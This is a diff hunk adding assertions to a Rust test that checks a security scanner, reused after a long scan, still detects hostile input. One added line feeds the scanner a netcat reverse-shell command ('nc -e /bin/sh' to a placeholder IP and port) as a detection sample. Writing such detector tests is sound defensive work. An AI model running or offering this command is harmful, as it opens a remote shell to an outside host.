@@ -61,6 +61,10 @@ fn fifty_megabytes_of_pathological_repetition() {
     if let Ok(n) = r {
         assert!(n > 0);
     }
+    // The thread's scanner is reused after a long (possibly timed-out) scan.
+    let m = s.scan(b"nc -e /bin/sh 198.51.100.23 9001");
+    assert_eq!(m.len(), 1, "{m:?}");
+    assert!(s.scan(b"print('hello')").is_empty());
 }
 
 #[test]
